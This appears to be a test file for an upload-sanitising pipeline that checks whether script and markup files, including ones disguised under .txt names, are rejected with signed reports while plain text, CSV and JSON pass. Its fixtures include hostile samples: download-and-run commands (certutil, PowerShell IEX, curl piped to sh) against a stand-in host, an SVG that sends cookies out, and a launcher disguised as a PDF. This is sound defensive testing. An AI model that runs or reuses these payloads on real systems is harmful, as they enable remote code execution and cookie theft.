// Active content is not text: uploads that run or render when opened (an
// HTML application, batch, PowerShell, VBScript, shell scripts, desktop
// launchers, web pages and SVGs with script) go through a real `sluice dev`
// with its default configuration and each leaves only a signed rejection
// report saying which type it is and how it was recognised, by name or by
// content; the same content under a .txt name is refused too. Plain text,
// CSV and JSON still pass and verify. Which types exist and what each
// covers: docs/checks.md, "Scripts and markup".
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { CLI, Pipeline } from '../support/pipeline.js';
import { sha256hex } from './impersonate.js';

let p: Pipeline;

beforeAll(async () => {
  p = await Pipeline.start(); // sluice dev writes its own default configuration
});

afterAll(async () => {
  await p?.stop();
});

const HTA = `<html><head><title>Invoice</title>
<HTA:APPLICATION ID="inv" APPLICATIONNAME="Invoice" WINDOWSTATE="minimize">
<script language="VBScript">CreateObject("WScript.Shell").Run "powershell -enc ..."</script>
</head><body></body></html>
`;

/** Each hostile upload: its name, its bytes, and the reason its rejection must give. */
const HOSTILE: { name: string; text: string; reason: string }[] = [
  { name: 'invoice.hta', text: HTA, reason: 'script or markup not allowed: html (content: "<html"), hta (content: "<HTA:APPLICATION"; extension .hta), javascript (content: "<script")' },
  { name: 'setup.bat', text: '@echo off\r\ncertutil -urlcache -f http://x.example/a.exe a.exe\r\na.exe\r\n', reason: 'script or markup not allowed: batch (content: "@echo off"; extension .bat)' },
  { name: 'update.ps1', text: 'IEX (New-Object Net.WebClient).DownloadString("http://x.example/p")\n', reason: 'script or markup not allowed: powershell (extension .ps1)' },
  { name: 'readme.vbs', text: 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', reason: 'script or markup not allowed: vbscript (extension .vbs)' },
  {
    name: 'logo.svg',
    text: '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//x.example/?"+document.cookie)</script></svg>\n',
    reason: 'script or markup not allowed: svg (content: "<svg"; extension .svg), javascript (content: "<script")',
  },
  { name: 'badge.svg', text: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="4"/></svg>\n', reason: 'script or markup not allowed: svg (content: "<svg"; extension .svg), javascript (content: "onload=")' },
  { name: 'page.html', text: '<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n', reason: 'script or markup not allowed: html (content: "<!DOCTYPE html"; extension .html), javascript (content: "<script")' },
  {
    name: 'report.desktop',
    text: '[Desktop Entry]\nType=Application\nName=report.pdf\nIcon=application-pdf\nExec=sh -c "curl -s http://x.example/a | sh"\n',
    reason: 'script or markup not allowed: desktop (content: "[Desktop Entry]"; extension .desktop)',
  },
  { name: 'install.sh', text: '#!/bin/sh\ncurl -s http://x.example/a | sh\n', reason: 'script or markup not allowed: shell (content: #! line "#!/bin/sh"; extension .sh)' },
  { name: 'plain-name.sh', text: 'echo no shebang at all\n', reason: 'script or markup not allowed: shell (extension .sh)' },
  // The content decides under an innocent name too.
  { name: 'notes.txt', text: '#!/usr/bin/env python3\nimport os; os.system("id")\n', reason: 'script or markup not allowed: python (content: #! line "#!/usr/bin/env python3")' },
  { name: 'page.txt', text: '<html><body onload="x()">hello</body></html>\n', reason: 'script or markup not allowed: html (content: "<html"), javascript (content: "onload=")' },
  { name: 'launcher.txt', text: '[Desktop Entry]\nExec=id\n', reason: 'script or markup not allowed: desktop (content: "[Desktop Entry]")' },
];

const PLAIN: { name: string; text: string }[] = [
  { name: 'letter.txt', text: 'Dear operator,\nthe figures are attached; see <b>table 2</b> and the javascript: primer.\n' },
  { name: 'figures.csv', text: 'region,q1,q2\nnorth,10,12\nsouth,7,9\n' },
  { name: 'order.json', text: '{"id": 17, "items": [{"sku": "A-1", "n": 2}]}\n' },
];


describe('active content through sluice dev (default configuration)', () => {
  it('rejects each script or markup upload with a signed report naming its type and how it was recognised; nothing of it is delivered', async () => {
    for (const h of HOSTILE) p.drop(h.name, h.text);
    for (const h of HOSTILE) {
      const found = await p.reportFor(h.name, 60_000);
      expect(found.place, h.name).toBe('rejected');
      expect(found.report.verdict, h.name).toBe('rejected');
      expect(found.report.checks.find((c) => c.name === 'file-type'), h.name).toMatchObject({ result: 'fail', reason: h.reason });
      expect(found.report.reason, h.name).toContain(`file-type: ${h.reason}`);
      expect(found.report.sha256, h.name).toBe(sha256hex(Buffer.from(h.text)));
      expect(p.verify(found).ok, `${h.name}: report signature`).toBe(true);
      expect(fs.existsSync(path.join(p.outbox, found.report.name.stored)), `${h.name} in the outbox`).toBe(false);
    }
    // `sluice verify` does not call any of them good: there is no accepted report to show it.
    const outboxFiles = fs.readdirSync(p.outbox);
    for (const h of HOSTILE) expect(outboxFiles.some((f) => f.startsWith(path.parse(h.name).name)), h.name).toBe(false);
  }, 120_000);

  it('still accepts plain text, CSV and JSON, and sluice verify passes them', async () => {
    for (const f of PLAIN) p.drop(f.name, f.text);
    for (const f of PLAIN) {
      const found = await p.reportFor(f.name, 60_000);
      expect(found.report.verdict, `${f.name}: ${found.report.reason}`).toBe('accepted');
      const file = path.join(p.outbox, found.report.name.stored);
      expect(fs.readFileSync(file, 'utf8')).toBe(f.text);
      const r = spawnSync(process.execPath, [CLI, 'verify', file, found.reportPath, '--pub', p.publicKey], { encoding: 'utf8' });
      expect(r.status, r.stdout + r.stderr).toBe(0);
    }
  }, 120_000);
});
